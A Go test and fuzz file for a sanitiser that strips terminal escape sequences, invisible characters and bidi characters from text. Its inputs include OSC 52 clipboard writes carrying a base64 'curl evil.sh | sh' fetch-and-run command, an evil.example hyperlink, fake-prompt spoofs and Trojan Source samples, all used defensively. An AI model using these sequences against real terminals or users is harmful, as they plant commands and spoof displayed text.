package sanitize

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestString(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"clean ascii", "acme/payments-api", "acme/payments-api"},
		{"clean unicode", "café 日本語 ✓", "café 日本語 ✓"},
		{"newline to space", "line one\nline two", "line one line two"},
		{"crlf", "a\r\nb", "a b"},
		{"bare cr", "progress 10%\rprogress 99%", "progress 10%progress 99%"},
		{"tab", "a\tb", "a    b"},
		{"nul and bell", "a\x00b\x07c", "abc"},
		{"del", "a\x7fb", "ab"},
		{"lone esc at end", "abc\x1b", "abc"},
		{"esc before non-sequence byte", "a\x1b\x01b", "ab"},
		{"esc esc", "a\x1b\x1b[2Jb", "ab"},
		{"csi clear screen", "\x1b[2J\x1b[Hpwned", "pwned"},
		{"csi colour", "\x1b[31mred\x1b[0m text", "red text"},
		{"csi private mode", "\x1b[?1049hx\x1b[?25l", "x"},
		{"csi cursor up and erase line", "ok\x1b[1A\x1b[2Kfake prompt$ ", "okfake prompt$ "},
		{"csi interrupted by control", "a\x1b[12\nb", "a b"},
		{"csi unterminated", "a\x1b[12;", "a"},
		{"osc 52 clipboard write bel", "repo\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07name", "reponame"},
		{"osc 52 clipboard write st", "repo\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\name", "reponame"},
		{"osc 0 title set", "\x1b]0;you have been hacked\x07desc", "desc"},
		{"osc 2 title set", "\x1b]2;title\x1b\\desc", "desc"},
		{"osc 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click"},
		{"osc unterminated", "keep\x1b]0;rest of the string", "keep"},
		{"osc ended by esc of next sequence", "a\x1b]0;t\x1b[31mb", "ab"},
		{"osc cancelled by can", "a\x1b]0;t\x18b", "ab"},
		{"osc terminated by c1 st", "a\x1b]0;t\u009cb", "ab"},
		{"dcs", "a\x1bP1$r0m\x1b\\b", "ab"},
		{"dcs decrqss reply injection", "x\x1bP$q\"p\x1b\\y", "xy"},
		{"apc", "a\x1b_Gf=100;payload\x1b\\b", "ab"},
		{"pm", "a\x1b^private\x1b\\b", "ab"},
		{"sos", "a\x1bXstring\x1b\\b", "ab"},
		{"ris reset", "a\x1bcb", "ab"},
		{"save cursor", "a\x1b7b\x1b8", "ab"},
		{"charset nF", "a\x1b(0lqk\x1b(Bb", "alqkb"},
		{"dec alignment test", "a\x1b#8b", "ab"},
		{"c1 csi", "a\u009b2Jb", "ab"},
		{"c1 osc", "a\u009d0;title\u009cb", "ab"},
		{"c1 other", "a\u0085b\u0080c", "abc"},
		{"raw 8-bit csi byte is invalid utf-8", "a\x9b2Jb", "a\uFFFD2Jb"},
		{"invalid utf8", "a\xffb\xc3", "a\uFFFDb\uFFFD"},
		{"overlong", "\xc0\xaf", "\uFFFD\uFFFD"},
		{"surrogate half", "\xed\xa0\x80", "\uFFFD\uFFFD\uFFFD"},
		{"line separator", "a\u2028b\u2029c", "a b c"},
		{"zero width", "ad\u200bmin\u200c\u200d\u2060\ufeff\u180e", "admin"},
		{"tag characters", "ok\U000E0049\U000E0047\U000E004E", "ok"},
		{"lrm rlm alm", "a\u200eb\u200fc\u061cd", "abcd"},
		// Trojan Source (CVE-2021-42574): the RLO/LRI/PDI make the
		// display order differ from the logical order.
		{
			"trojan source early return",
			"/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
			"/* } if (isAdmin)  begin admins only */",
		},
		{
			"trojan source stretched string",
			"access_level != \"user\u202e \u2066// Check if admin\u2069 \u2066\"",
			"access_level != \"user // Check if admin \"",
		},
		{"rlo file extension spoof", "invoice\u202egpj.exe", "invoicegpj.exe"},
		{"embeddings and pdf", "\u202aa\u202bb\u202cc\u202dd", "abcd"},
		{"isolates", "\u2066a\u2067b\u2068c\u2069", "abc"},
		{"keeps emoji and combining marks", "e\u0301 👍", "e\u0301 👍"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := String(tt.in)
			if got != tt.want {
				t.Errorf("String(%q) = %q, want %q", tt.in, got, tt.want)
			}
			checkClean(t, got, false)
			if again := String(got); again != got {
				t.Errorf("not idempotent: String(%q) = %q", got, again)
			}
		})
	}
}

func TestText(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"keeps newlines", "one\ntwo\n", "one\ntwo\n"},
		{"crlf", "one\r\ntwo", "one\ntwo"},
		{"separators", "a\u2028b\u2029c", "a\nb\nc"},
		{"tab", "\tindented", "    indented"},
		{"escape across lines", "a\x1b[31m\nb\x1b[0m", "a\nb"},
		{"osc 52 in description", "Build notes\n\x1b]52;c;ZWNobyBoaQ==\x07done", "Build notes\ndone"},
		{"vertical tab form feed", "a\vb\fc", "abc"},
		{"bidi", "x\u202ey\nz\u2067w", "xy\nzw"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Text(tt.in)
			if got != tt.want {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
			}
			checkClean(t, got, true)
			if again := Text(got); again != got {
				t.Errorf("not idempotent: Text(%q) = %q", got, again)
			}
		})
	}
}

func TestCleanInputIsReturnedAsIs(t *testing.T) {
	for _, s := range []string{"", "acme/web", strings.Repeat("x", 300), "naïve ☃ 日本"} {
		if got := String(s); got != s {
			t.Errorf("String(%q) = %q", s, got)
		}
		if n := testing.AllocsPerRun(100, func() { _ = String(s) }); n != 0 {
			t.Errorf("String(%q) allocates %v times", s, n)
		}
		if n := testing.AllocsPerRun(100, func() { _ = Text(s + "\n" + s) }); n > 1 { // the concatenation itself
			t.Errorf("Text(%q) allocates %v times", s, n)
		}
	}
}

// checkClean fails t when s contains anything the sanitiser must remove.
func checkClean(t *testing.T, s string, multi bool) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("output %q is not valid UTF-8", s)
	}
	for i, r := range s {
		switch {
		case r == '\n' && multi:
		case unicode.IsControl(r):
			t.Fatalf("output %q has control %U at %d", s, r, i)
		case unicode.Is(unicode.Cf, r), r == '\u2028', r == '\u2029', r == 0xad, r == 0x034f, r == 0x115f, r == 0x1160,
			r == 0x17b4, r == 0x17b5, r == 0x3164, r == 0xffa0:
			t.Fatalf("output %q has an invisible or format character %U at %d", s, r, i)
		case unicode.Is(unicode.Bidi_Control, r):
			t.Fatalf("output %q has bidi control %U at %d", s, r, i)
		case r >= 0x200b && r <= 0x200d, r == 0x2060, r == 0xfeff, r == 0x180e:
			t.Fatalf("output %q has zero-width %U at %d", s, r, i)
		}
	}
}

func fuzzSeeds(f *testing.F) {
	for _, s := range []string{
		"", "plain", "a\nb", "a\tb", "\x1b[2J", "\x1b]52;c;Zm9v\x07", "\x1b]0;t\x1b\\",
		"\x1bP+q\x1b\\", "\x1b_x\x1b\\", "\u009b31m", "\u009d0;x\u009c", "\xff\xfe",
		"\u202eabc\u202c", "\u2066x\u2069", "a\u200bb\ufeff", "soft\u00adhyphen", "\u3164\uffa0\u115f", "\U0001D173x", "\x1b", "\x1b[", "\x1b]", "\xc2",
		"\x1b(B", "\x1bc", "日本語\x1b[1m", "\r\n", "\U000E0041",
	} {
		f.Add(s)
	}
}

func FuzzString(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, in string) {
		out := String(in)
		if strings.ContainsRune(out, '\n') {
			t.Fatalf("String(%q) = %q contains a newline", in, out)
		}
		checkClean(t, out, false)
		if again := String(out); again != out {
			t.Fatalf("not idempotent: String(%q) = %q, String(that) = %q", in, out, again)
		}
	})
}

func FuzzText(f *testing.F) {
	fuzzSeeds(f)
	f.Fuzz(func(t *testing.T, in string) {
		out := Text(in)
		checkClean(t, out, true)
		if again := Text(out); again != out {
			t.Fatalf("not idempotent: Text(%q) = %q, Text(that) = %q", in, out, again)
		}
	})
}

func BenchmarkStringClean(b *testing.B) {
	s := strings.Repeat("acme/payments-api-17 ", 4)[:80]
	b.ReportAllocs()
	for b.Loop() {
		if String(s) != s {
			b.Fatal("changed")
		}
	}
}

func BenchmarkStringDirty(b *testing.B) {
	s := "acme/\x1b[31mpay\u202ements\x1b]52;c;Y3VybA==\x07-api\t\u200b17\n" + strings.Repeat("x", 30)
	b.ReportAllocs()
	for b.Loop() {
		_ = String(s)
	}
}
